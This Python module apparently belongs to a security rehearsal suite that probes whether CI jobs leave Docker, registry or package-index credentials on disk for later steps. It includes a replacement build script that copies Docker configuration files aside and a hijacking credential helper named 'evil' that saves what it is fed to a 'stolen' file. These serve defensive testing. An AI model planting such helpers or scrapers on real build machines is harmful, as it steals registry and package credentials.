"""Attacks by what a step leaves on its machine for a later one: Docker's configuration, uv's cache, netrc, caches.

Code of a repository runs in a job whose central steps have signed in, or will. It finds every file of the job's user.
"""

from __future__ import annotations

import json
import os
import re
import stat
from contextlib import contextmanager
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import TYPE_CHECKING

from rnd import process, uv
from rnd.names import index_credentials
from rnd.publish.containers import SCRIPT, run_script
from rnd.publish.registry import Registry
from rnd.runners.stack.policies import STS_AUDIENCE
from rnd_rehearsal.attacks.job import BOTH, make_wheel
from rnd_rehearsal.attacks.matrix import Refused, attack
from rnd_rehearsal.package_index import USER

if TYPE_CHECKING:
    from collections.abc import Generator, Sequence

    from rnd_rehearsal.attacks.arena import Arena

REGISTRY = Registry("registry.example", "AWS", "password-of-the-registry")
# In place of docker/build.py: keeps what it finds of Docker's configuration, and asks for credentials as Docker does.
BUILDER = """\
import json, os, pathlib, subprocess, sys
folder, kept = pathlib.Path(os.environ["DOCKER_CONFIG"]), pathlib.Path("@KEPT@")
for file in (*folder.iterdir(), pathlib.Path(os.environ["REGISTRY_AUTH_FILE"])):
    if file.is_file() and not (kept / file.name).exists():
        os.link(file.resolve(), kept / file.name)
helper = json.loads((folder / "config.json").read_text())["credHelpers"]["@HOST@"]
(kept / "asked").write_text(helper)
answer = subprocess.run([f"docker-credential-{helper}", "get"], input="@HOST@", text=True, capture_output=True)
sys.exit(json.loads(answer.stdout)["Username"] != "AWS")
"""
CACHES = re.compile(r"actions/cache\b|[\w-]*cache[\w-]*: *(?!false|'')\S|type=(?:gha|registry)\b|--cache-(?:from|to)")


@contextmanager
def home() -> Generator[Path]:
    """Give the home folder of a job's user, in which its steps run."""
    with TemporaryDirectory(prefix="rnd-home-") as name:
        place = Path(name)
        (place / ".docker").mkdir()
        given = {"HOME": name, "DOCKER_CONFIG": str(place / ".docker"), "UV_CACHE_DIR": str(place / ".cache" / "uv")}
        with process.hidden(("REGISTRY_AUTH_FILE", "XDG_RUNTIME_DIR", "NETRC"), given):
            yield place


def holding(place: Path, secrets: Sequence[str]) -> list[str]:
    """Return the files below a folder that contain one of some secrets."""
    files = [file for file in place.rglob("*") if stat.S_ISREG(file.lstat().st_mode)]
    return [str(file.relative_to(place)) for file in files if any(one.encode() in file.read_bytes() for one in secrets)]


def push(place: Path) -> Path:
    """Run the central step that pushes an image, and return what its builder kept."""
    kept, script = place / "kept", place / "work" / SCRIPT
    kept.mkdir()
    script.parent.mkdir(parents=True)
    text = BUILDER.replace("@KEPT@", str(kept)).replace("@HOST@", REGISTRY.host)
    script.write_text(text, encoding="utf-8")
    run_script(place / "work", [], REGISTRY, {})
    return kept


@attack("I1", "dependency")
def docker_configuration(arena: Arena) -> object:
    """Finds the credentials of the registry in Docker's configuration, after an image was pushed."""
    del arena  # the command that pushes is asked, with no registry
    with home() as place:
        configuration = place / ".docker" / "config.json"
        configuration.write_text("{}", encoding="utf-8")
        push(place)
        found = holding(place, [REGISTRY.password])
        if not found and configuration.read_text(encoding="utf-8") == "{}":
            raise Refused("rnd: credentials are in no file")
        return found


@attack("I1", "dependency")
def credential_helper(arena: Arena) -> object:
    """Names a program of its own as Docker's credential helper, for the step that pushes an image."""
    del arena
    with home() as place:
        helpers = {"credHelpers": {REGISTRY.host: "evil"}, "credsStore": "evil", "auths": {REGISTRY.host: {}}}
        (place / ".docker" / "config.json").write_text(json.dumps(helpers), encoding="utf-8")
        program = place / "bin" / "docker-credential-evil"
        program.parent.mkdir()
        program.write_text('#!/bin/sh\ncat >"$HOME/stolen"\necho \'{"Username": "AWS", "Secret": "x"}\'\n')
        program.chmod(0o755)
        with process.hidden((), {"PATH": os.pathsep.join((str(program.parent), os.environ["PATH"]))}):
            asked = push(place) / "asked"
        if asked.read_text(encoding="utf-8") != "evil" and not (place / "stolen").exists():
            raise Refused("rnd: its own helper goes first")
        return asked


@attack("I1", "dependency")
def cache_of_uv(arena: Arena) -> object:
    """Finds the token of the package index in uv's cache, netrc or another file, after packages were installed."""
    reading = arena.token(arena.job("pull"), audience=STS_AUDIENCE)
    token = arena.bearer(arena.web(arena.organisation.require_aws().reading_role, reading))
    index = arena.actors.sandbox.index
    name, slug = arena.package(arena.victim), arena.organisation.slug
    with home() as place, TemporaryDirectory(prefix="rnd-wheel-") as made:
        wheel = make_wheel(Path(made), name, "9.9")
        (index.folder / wheel.name).write_bytes(wheel.read_bytes())
        try:
            install = ("pip", "install", "--quiet", "--no-deps", "--target", str(place / "site"), f"{name}==9.9")
            credentials = index_credentials(arena.organisation, USER, token)
            uv.run(place, *install, "--index", f"{slug}={index.url}simple/", extra=credentials)
        finally:
            (index.folder / wheel.name).unlink()
        if not list((place / "site").glob("*.dist-info")):
            raise LookupError("An honest job cannot install a package.")
        if found := holding(place, [token]):
            return found
    raise Refused("uv: credentials are in no file")


@attack("I5", *BOTH)
def poisoned_cache(arena: Arena) -> object:
    """Finds a cache that a pull request writes and main reads: of GitHub, of Docker or of an action."""
    checkout = arena.actors.sandbox.checkout
    folders = (arena.actors.folder / ".github" / "workflows", checkout / "actions", checkout / ".github" / "workflows")
    files = [file for folder in folders for file in sorted(folder.rglob("*.yml"))]
    if len(files) < 10:  # of the repository and of the central actions
        raise LookupError(f"These are not all workflows and actions: {files}.")
    lines = [line for file in files for line in file.read_text(encoding="utf-8").splitlines()]
    found = [line.strip() for line in lines if CACHES.search(line.partition("#")[0])]
    if not found:
        raise Refused("workflows: no cache")
    return found
